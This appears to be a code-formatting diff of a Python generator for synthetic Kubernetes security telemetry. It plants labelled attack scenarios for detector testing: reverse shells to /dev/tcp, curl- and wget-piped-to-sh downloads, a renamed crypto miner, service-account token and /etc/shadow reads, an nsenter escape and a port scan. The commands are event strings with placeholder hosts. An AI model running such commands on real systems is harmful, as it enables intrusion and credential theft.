@@ -863,7 +1289,9 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
             if p.node is old_node:
                 p.end_ns = t_swap
                 base = p.name.rsplit("-", 1)[0]
-                q = g.pod(p.namespace, f"{base}-{g.rand(5)}", p.image, p.tag, t_swap + 40 * NS, new_node)
+                q = g.pod(
+                    p.namespace, f"{base}-{g.rand(5)}", p.image, p.tag, t_swap + 40 * NS, new_node
+                )
                 ds_live[key].append(q)
                 if key == "fluent":
                     g.spawn(q.start_ns, q, "fluent-bit", "/fluent-bit/bin/fluent-bit", "containerd-shim", "systemd",
@@ -885,9 +1313,29 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
 
     def reco_main(t: int, p: Pod) -> None:
         lab = (None, "new-workload")
-        g.spawn(t, p, "gunicorn", "/usr/local/bin/python3.11", "containerd-shim", "systemd", "gunicorn reco:app", user="app", label=lab)
+        g.spawn(
+            t,
+            p,
+            "gunicorn",
+            "/usr/local/bin/python3.11",
+            "containerd-shim",
+            "systemd",
+            "gunicorn reco:app",
+            user="app",
+            label=lab,
+        )
         for w in range(2):
-            g.spawn(t + NS + w, p, "gunicorn", "/usr/local/bin/python3.11", "gunicorn", "containerd-shim", "gunicorn reco:app", user="app", label=lab)
+            g.spawn(
+                t + NS + w,
+                p,
+                "gunicorn",
+                "/usr/local/bin/python3.11",
+                "gunicorn",
+                "containerd-shim",
+                "gunicorn reco:app",
+                user="app",
+                label=lab,
+            )
 
     reco.main = reco_main
     reco.roll(START_NS + 34 * HOUR)
@@ -906,50 +1354,207 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
         g.scenario_workload.setdefault(s, f"{pod.namespace}/{pod.name}")
         return (s, None)
 
-    evil = [f"{rng.choice([45, 91, 185, 193, 5])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}" for _ in range(12)]
+    evil = [
+        f"{rng.choice([45, 91, 185, 193, 5])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
+        for _ in range(12)
+    ]
 
     # revshell via the python the image already has
     t = at(23.2)
     p = api.live(t)[0]
     s = "revshell-python"
-    g.spawn(t, p, "sh", "/bin/sh", "gunicorn", "gunicorn", "sh -c python3 -c 'import socket,os,pty;...'", user="app", label=lab(s, t, p))
-    g.spawn(t + NS // 5, p, "python3", "/usr/local/bin/python3.11", "sh", "gunicorn", "python3 -c import socket,os,pty;...", user="app", label=lab(s, t, p))
-    g.connect(t + NS // 3, p, "python3", "/usr/local/bin/python3.11", "sh", "gunicorn", evil[0], 443, user="app", label=lab(s, t, p))
-    g.spawn(t + NS, p, "bash", "/bin/bash", "python3", "sh", "/bin/bash -i", user="app", label=lab(s, t, p))
+    g.spawn(
+        t,
+        p,
+        "sh",
+        "/bin/sh",
+        "gunicorn",
+        "gunicorn",
+        "sh -c python3 -c 'import socket,os,pty;...'",
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS // 5,
+        p,
+        "python3",
+        "/usr/local/bin/python3.11",
+        "sh",
+        "gunicorn",
+        "python3 -c import socket,os,pty;...",
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.connect(
+        t + NS // 3,
+        p,
+        "python3",
+        "/usr/local/bin/python3.11",
+        "sh",
+        "gunicorn",
+        evil[0],
+        443,
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS,
+        p,
+        "bash",
+        "/bin/bash",
+        "python3",
+        "sh",
+        "/bin/bash -i",
+        user="app",
+        label=lab(s, t, p),
+    )
     for i, c in enumerate(["id", "uname", "ls", "cat"]):
-        g.spawn(t + (20 + 15 * i) * NS, p, c, f"/bin/{c}", "bash", "python3", c, user="app", label=lab(s, t, p))
+        g.spawn(
+            t + (20 + 15 * i) * NS,
+            p,
+            c,
+            f"/bin/{c}",
+            "bash",
+            "python3",
+            c,
+            user="app",
+            label=lab(s, t, p),
+        )
 
     # revshell: bash -i with a network fd in the JVM service
     t = at(30.5)
     p = checkout.live(t)[0]
     s = "revshell-bash"
-    g.spawn(t, p, "bash", "/usr/bin/bash", "java", "bash", "bash -c bash -i >& /dev/tcp/x/443 0>&1", user="app", label=lab(s, t, p))
-    g.connect(t + NS // 10, p, "bash", "/usr/bin/bash", "java", "bash", evil[1], 443, user="app", label=lab(s, t, p))
+    g.spawn(
+        t,
+        p,
+        "bash",
+        "/usr/bin/bash",
+        "java",
+        "bash",
+        "bash -c bash -i >& /dev/tcp/x/443 0>&1",
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.connect(
+        t + NS // 10,
+        p,
+        "bash",
+        "/usr/bin/bash",
+        "java",
+        "bash",
+        evil[1],
+        443,
+        user="app",
+        label=lab(s, t, p),
+    )
     g.stock(t + NS // 5, p, "Redirect STDOUT/STDIN to Network Connection in Container", "NOTICE",
             "Redirect stdout/stdin to network connection (process=bash parent=java)",
             {"evt.type": "dup2", "proc.name": "bash", "proc.pname": "java", "proc.exepath": "/usr/bin/bash",
              "user.name": "app", "fd.name": f"{p.ip}:40112->{evil[1]}:443"},
             ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"], lab(s, t, p))  # fmt: skip
-    g.spawn(t + 30 * NS, p, "whoami", "/usr/bin/whoami", "bash", "java", "whoami", user="app", label=lab(s, t, p))
+    g.spawn(
+        t + 30 * NS,
+        p,
+        "whoami",
+        "/usr/bin/whoami",
+        "bash",
+        "java",
+        "whoami",
+        user="app",
+        label=lab(s, t, p),
+    )
 
     # miner: a binary renamed after the workload's own (java), in /tmp, to a pool port
     t = at(40.2)
     p = kafka[1]
     s = "miner-renamed"
-    g.spawn(t, p, "sh", "/bin/sh", "java", "bash", "sh -c curl -so /tmp/.cache/java http://x/m", user="1001", label=lab(s, t, p))
-    g.spawn(t + NS, p, "curl", "/usr/bin/curl", "sh", "java", "curl -so /tmp/.cache/java", user="1001", label=lab(s, t, p))
-    g.connect(t + NS + NS // 2, p, "curl", "/usr/bin/curl", "sh", "java", evil[2], 80, user="1001", label=lab(s, t, p))
-    g.spawn(t + 5 * NS, p, "java", "/tmp/.cache/java", "sh", "java", "java -o pool:3333", user="1001", label=lab(s, t, p))
+    g.spawn(
+        t,
+        p,
+        "sh",
+        "/bin/sh",
+        "java",
+        "bash",
+        "sh -c curl -so /tmp/.cache/java http://x/m",
+        user="1001",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS,
+        p,
+        "curl",
+        "/usr/bin/curl",
+        "sh",
+        "java",
+        "curl -so /tmp/.cache/java",
+        user="1001",
+        label=lab(s, t, p),
+    )
+    g.connect(
+        t + NS + NS // 2,
+        p,
+        "curl",
+        "/usr/bin/curl",
+        "sh",
+        "java",
+        evil[2],
+        80,
+        user="1001",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + 5 * NS,
+        p,
+        "java",
+        "/tmp/.cache/java",
+        "sh",
+        "java",
+        "java -o pool:3333",
+        user="1001",
+        label=lab(s, t, p),
+    )
     for i in range(6):
-        g.connect(t + (6 + 30 * i) * NS, p, "java", "/tmp/.cache/java", "sh", "java", evil[3], 3333, user="1001", label=lab(s, t, p))
+        g.connect(
+            t + (6 + 30 * i) * NS,
+            p,
+            "java",
+            "/tmp/.cache/java",
+            "sh",
+            "java",
+            evil[3],
+            3333,
+            user="1001",
+            label=lab(s, t, p),
+        )
 
     # service account token read, then the API server, from a pod that never does
     t = at(33.3)
     p = frontend.live(t)[0]
     s = "token-apiserver"
-    g.opened(t, p, "node", "/usr/local/bin/node", "sh", "containerd-shim", "/var/run/secrets/kubernetes.io/serviceaccount/token", user="node", label=lab(s, t, p))
+    g.opened(
+        t,
+        p,
+        "node",
+        "/usr/local/bin/node",
+        "sh",
+        "containerd-shim",
+        "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        user="node",
+        label=lab(s, t, p),
+    )
     for i in range(3):
-        g.connect(t + (2 + 5 * i) * NS, p, "node", "/usr/local/bin/node", "sh", "containerd-shim", *APISERVER, user="node", label=lab(s, t, p))
+        g.connect(
+            t + (2 + 5 * i) * NS,
+            p,
+            "node",
+            "/usr/local/bin/node",
+            "sh",
+            "containerd-shim",
+            *APISERVER,
+            user="node",
+            label=lab(s, t, p),
+        )
 
     # cloud metadata from a workload that never does
     t = at(25.1)
@@ -962,20 +1567,81 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     t = at(36.4)
     p = search[2]
     s = "curl-pipe-sh"
-    g.spawn(t, p, "sh", "/bin/sh", "java", "tini", "sh -c curl -s http://x/i.sh | sh", user="elasticsearch", label=lab(s, t, p))
-    g.spawn(t + NS // 10, p, "curl", "/usr/bin/curl", "sh", "java", "curl -s http://x/i.sh", user="elasticsearch", label=lab(s, t, p))
-    g.connect(t + NS // 5, p, "curl", "/usr/bin/curl", "sh", "java", evil[4], 80, user="elasticsearch", label=lab(s, t, p))
-    g.spawn(t + NS // 2, p, "sh", "/bin/sh", "sh", "java", "sh", user="elasticsearch", label=lab(s, t, p))
-    g.spawn(t + NS, p, "chmod", "/bin/chmod", "sh", "sh", "chmod +x /tmp/s", user="elasticsearch", label=lab(s, t, p))
+    g.spawn(
+        t,
+        p,
+        "sh",
+        "/bin/sh",
+        "java",
+        "tini",
+        "sh -c curl -s http://x/i.sh | sh",
+        user="elasticsearch",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS // 10,
+        p,
+        "curl",
+        "/usr/bin/curl",
+        "sh",
+        "java",
+        "curl -s http://x/i.sh",
+        user="elasticsearch",
+        label=lab(s, t, p),
+    )
+    g.connect(
+        t + NS // 5,
+        p,
+        "curl",
+        "/usr/bin/curl",
+        "sh",
+        "java",
+        evil[4],
+        80,
+        user="elasticsearch",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS // 2,
+        p,
+        "sh",
+        "/bin/sh",
+        "sh",
+        "java",
+        "sh",
+        user="elasticsearch",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS,
+        p,
+        "chmod",
+        "/bin/chmod",
+        "sh",
+        "sh",
+        "chmod +x /tmp/s",
+        user="elasticsearch",
+        label=lab(s, t, p),
+    )
 
     # lateral movement: slow scan of new in-cluster peers on new ports, from node.js
     t = at(26.3)
     p = notif.live(t)[0]
     s = "lateral-scan"
     ports = [22, 2375, 2379, 3306, 6443, 10250, 10255, 27017, 9200, 5432, 8080, 11211]
-    targets = [x.ip for x in search + kafka + redis_pods + postgres] + [x.node.ip for x in exporters[:3]]
+    targets = [x.ip for x in search + kafka + redis_pods + postgres] + [
+        x.node.ip for x in exporters[:3]
+    ]
     for i, port in enumerate(ports):
-        g.connect(t + i * rng.randint(90, 200) * NS, p, *nd, rng.choice(targets), port, user="node", label=lab(s, t, p))
+        g.connect(
+            t + i * rng.randint(90, 200) * NS,
+            p,
+            *nd,
+            rng.choice(targets),
+            port,
+            user="node",
+            label=lab(s, t, p),
+        )
 
     # exfiltration with the workload's own tar and curl, to a new external peer
     t = START_NS + 42 * HOUR + 40 * MIN
@@ -986,13 +1652,31 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     p = billing.live(t)[0]
     s = "slow-weak-signals"
     steps: list[Callable[[int], None]] = [
-        lambda u: g.spawn(u, p, "id", "/usr/bin/id", "sh", "python3", "id", user="app", label=lab(s, u, p)),
-        lambda u: g.spawn(u, p, "sh", "/bin/sh", "python3", "containerd-shim", "sh -c env", user="app", label=lab(s, u, p)),
+        lambda u: g.spawn(
+            u, p, "id", "/usr/bin/id", "sh", "python3", "id", user="app", label=lab(s, u, p)
+        ),
+        lambda u: g.spawn(
+            u,
+            p,
+            "sh",
+            "/bin/sh",
+            "python3",
+            "containerd-shim",
+            "sh -c env",
+            user="app",
+            label=lab(s, u, p),
+        ),
         lambda u: g.connect(u, p, *bp, g.nodes[0].ip, 10250, user="app", label=lab(s, u, p)),
-        lambda u: g.spawn(u, p, "env", "/usr/bin/env", "sh", "python3", "env", user="app", label=lab(s, u, p)),
+        lambda u: g.spawn(
+            u, p, "env", "/usr/bin/env", "sh", "python3", "env", user="app", label=lab(s, u, p)
+        ),
         lambda u: g.opened(u, p, *bp, "/etc/shadow", user="app", label=lab(s, u, p)),
-        lambda u: g.connect(u, p, *bp, *g.service("kube-dns-metrics", 9153), user="app", label=lab(s, u, p)),
-        lambda u: g.spawn(u, p, "ps", "/bin/ps", "sh", "python3", "ps aux", user="app", label=lab(s, u, p)),
+        lambda u: g.connect(
+            u, p, *bp, *g.service("kube-dns-metrics", 9153), user="app", label=lab(s, u, p)
+        ),
+        lambda u: g.spawn(
+            u, p, "ps", "/bin/ps", "sh", "python3", "ps aux", user="app", label=lab(s, u, p)
+        ),
     ]
     for i, step in enumerate(steps):
         step(t + i * rng.randint(7, 11) * MIN)
@@ -1001,36 +1685,165 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     t = at(38.6)
     p = [x for x in ds_live["fluent"] if x.start_ns <= t < x.end_ns][0]
     s = "privilege-step"
-    g.spawn(t, p, "sh", "/bin/sh", "fluent-bit", "containerd-shim", "sh -c nsenter -t 1 -m sh", label=lab(s, t, p))
-    g.spawn(t + NS, p, "nsenter", "/usr/bin/nsenter", "sh", "fluent-bit", "nsenter -t 1 -m -u -i -n sh", label=lab(s, t, p))
-    g.spawn(t + 2 * NS, p, "mount", "/usr/bin/mount", "nsenter", "sh", "mount /dev/nvme0n1p1 /mnt", label=lab(s, t, p))
-    g.opened(t + 3 * NS, p, "sh", "/bin/sh", "nsenter", "sh", "/etc/kubernetes/kubelet.conf", label=lab(s, t, p))
+    g.spawn(
+        t,
+        p,
+        "sh",
+        "/bin/sh",
+        "fluent-bit",
+        "containerd-shim",
+        "sh -c nsenter -t 1 -m sh",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS,
+        p,
+        "nsenter",
+        "/usr/bin/nsenter",
+        "sh",
+        "fluent-bit",
+        "nsenter -t 1 -m -u -i -n sh",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + 2 * NS,
+        p,
+        "mount",
+        "/usr/bin/mount",
+        "nsenter",
+        "sh",
+        "mount /dev/nvme0n1p1 /mnt",
+        label=lab(s, t, p),
+    )
+    g.opened(
+        t + 3 * NS,
+        p,
+        "sh",
+        "/bin/sh",
+        "nsenter",
+        "sh",
+        "/etc/kubernetes/kubelet.conf",
+        label=lab(s, t, p),
+    )
 
     # a brand-new workload, no history: back-off to namespace and cluster
     t = at(31.0)
     s = "new-workload-attack"
     atk = Deploy("default", "metrics-helper", "docker.io/library/alpine", 1, "3.19")
     p = atk.roll(t)[0]
-    g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c sleep 30; wget ...", label=lab(s, t, p))
-    g.spawn(t + 30 * NS, p, "wget", "/bin/busybox", "sh", "containerd-shim", "wget -qO /tmp/a http://x/a", label=lab(s, t, p))
-    g.connect(t + 31 * NS, p, "wget", "/bin/busybox", "sh", "containerd-shim", evil[6], 8080, label=lab(s, t, p))
-    g.opened(t + 35 * NS, p, "cat", "/bin/busybox", "sh", "containerd-shim", "/var/run/secrets/kubernetes.io/serviceaccount/token", label=lab(s, t, p))
+    g.spawn(
+        t,
+        p,
+        "sh",
+        "/bin/sh",
+        "containerd-shim",
+        "systemd",
+        "sh -c sleep 30; wget ...",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + 30 * NS,
+        p,
+        "wget",
+        "/bin/busybox",
+        "sh",
+        "containerd-shim",
+        "wget -qO /tmp/a http://x/a",
+        label=lab(s, t, p),
+    )
+    g.connect(
+        t + 31 * NS,
+        p,
+        "wget",
+        "/bin/busybox",
+        "sh",
+        "containerd-shim",
+        evil[6],
+        8080,
+        label=lab(s, t, p),
+    )
+    g.opened(
+        t + 35 * NS,
+        p,
+        "cat",
+        "/bin/busybox",
+        "sh",
+        "containerd-shim",
+        "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        label=lab(s, t, p),
+    )
     g.spawn(t + 36 * NS, p, "a", "/tmp/a", "sh", "containerd-shim", "/tmp/a", label=lab(s, t, p))
-    g.connect(t + 37 * NS, p, "a", "/tmp/a", "sh", "containerd-shim", *APISERVER, label=lab(s, t, p))
+    g.connect(
+        t + 37 * NS, p, "a", "/tmp/a", "sh", "containerd-shim", *APISERVER, label=lab(s, t, p)
+    )
 
     # an attack inside the api rollout (its new pods are busy being new)
     t = t_roll + 4 * MIN
     p = [x for x in api.live(t) if x.tag == "3.9.0"][0]
     s = "attack-during-rollout"
-    g.spawn(t, p, "sh", "/bin/sh", "celery", "sh", "sh -c wget -qO- http://x/b | sh", user="app", label=lab(s, t, p))
-    g.spawn(t + NS, p, "wget", "/usr/bin/wget", "sh", "celery", "wget -qO- http://x/b", user="app", label=lab(s, t, p))
-    g.connect(t + 2 * NS, p, "wget", "/usr/bin/wget", "sh", "celery", evil[7], 8080, user="app", label=lab(s, t, p))
-    g.spawn(t + 4 * NS, p, "python3", "/usr/local/bin/python3.11", "sh", "celery", "python3 -c exec(...)", user="app", label=lab(s, t, p))
-    g.connect(t + 5 * NS, p, "python3", "/usr/local/bin/python3.11", "sh", "celery", evil[7], 8443, user="app", label=lab(s, t, p))
+    g.spawn(
+        t,
+        p,
+        "sh",
+        "/bin/sh",
+        "celery",
+        "sh",
+        "sh -c wget -qO- http://x/b | sh",
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + NS,
+        p,
+        "wget",
+        "/usr/bin/wget",
+        "sh",
+        "celery",
+        "wget -qO- http://x/b",
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.connect(
+        t + 2 * NS,
+        p,
+        "wget",
+        "/usr/bin/wget",
+        "sh",
+        "celery",
+        evil[7],
+        8080,
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.spawn(
+        t + 4 * NS,
+        p,
+        "python3",
+        "/usr/local/bin/python3.11",
+        "sh",
+        "celery",
+        "python3 -c exec(...)",
+        user="app",
+        label=lab(s, t, p),
+    )
+    g.connect(
+        t + 5 * NS,
+        p,
+        "python3",
+        "/usr/local/bin/python3.11",
+        "sh",
+        "celery",
+        evil[7],
+        8443,
+        user="app",
+        label=lab(s, t, p),
+    )
 
     for job in g.jobs:
         job()
-    records = sorted((r for r in g.records if START_NS <= r.time_ns < g.end_ns), key=lambda r: r.time_ns)
+    records = sorted(
+        (r for r in g.records if START_NS <= r.time_ns < g.end_ns), key=lambda r: r.time_ns
+    )
     return Stream(seed, hours, "hard", train_end, records, g.scenario_start, g.scenario_workload)
 
 
